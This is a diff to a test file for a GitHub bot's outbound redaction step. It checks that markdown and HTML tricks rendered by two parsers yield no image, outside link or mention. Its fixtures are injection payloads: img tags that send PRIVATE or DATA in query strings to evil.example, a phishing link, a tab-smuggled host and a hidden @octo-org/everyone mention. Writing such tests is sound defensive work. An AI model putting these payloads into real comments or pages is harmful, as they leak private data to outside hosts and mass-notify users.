@@ -49,12 +49,20 @@ describe('redaction', () => {
     for (const kept of ['mail first.last@example.org', 'in `@code` and\n```\n@fenced\n```', 'see https://github.com/@alice/x', '[@alice](https://github.com/alice)', '@-x']) expect(outbound(kept, [])).toBe(kept);
   });
 
-  it("what GitHub's parser reads otherwise than the patterns (a backtick inside a tag, an HTML block, a table's pipes) is posted as text, and renders nothing (attacker review, stop 43)", async () => {
+  it("what GitHub's parser reads otherwise than the patterns used to (a backtick inside a tag, an HTML block, a table's pipes) renders no image, link or mention (attacker reviews, stop 43)", async () => {
     const { outbound } = await import('../../src/github/outbound.js');
     const { micromark } = await import('micromark');
     const { gfm, gfmHtml } = await import('micromark-extension-gfm');
-    const render = (md: string) => micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+    const { HtmlRenderer, Parser } = await import('commonmark');
+    // Two renderers: micromark with GFM, and commonmark.js (the spec's reference), which read raw HTML apart in places.
+    const render = (md: string) => `${micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] })}\n${new HtmlRenderer().render(new Parser().parse(md))}`;
     const attacks = [
+      // The second review: a stray quote the check's patterns lost a tag at, a value micromark ends at '/', a tab in a host, a mention behind a tag in an attribute.
+      '<div>\n`<img src=https://evil.example/x.png?d=PRIVATE"x>`\n</div>',
+      '<span title="`"><img src=//evil.example/PRIVATE/p.png><span title="`">',
+      '<div>\n`<img src="https://github.com&#9;@evil.example/p.png">`\n</div>',
+      '<span title="`<code>">@octo-org/everyone<span title="</code>`">',
+      'Fixed. `<img src="https://evil.example/x.png?d=PRIVATE">` and `<a href="https://evil.example">x</a>`',
       'See <span title="`"></span><img src="https://evil.example/i.png?d=DATA"><span title="`"></span> done.',
       '<div>`<img src="https://evil.example/a.png?d=DATA">`</div>',
       'Text <kbd title="`">x</kbd> [label](https://evil.example/phish) <kbd title="`">y</kbd>',
@@ -63,9 +71,9 @@ describe('redaction', () => {
     ];
     for (const attack of attacks) {
       const html = render(outbound(attack, []));
-      expect(html, attack).not.toMatch(/<(img|a)\b/);
-      expect(html.replace(/<pre>[\s\S]*?<\/pre>/g, ''), attack).not.toContain('@octo-org');
-      expect(html, attack).toContain('Recall shows this answer as plain text');
+      expect(html, attack).not.toMatch(/<img\b|<a href="(?!https:\/\/github\.com\/)/);
+      // A mention in code notifies no one.
+      expect(html.replace(/<pre>[\s\S]*?<\/pre>|<code>[^<]*<\/code>/g, ''), attack).not.toContain('@octo-org');
     }
   });
 
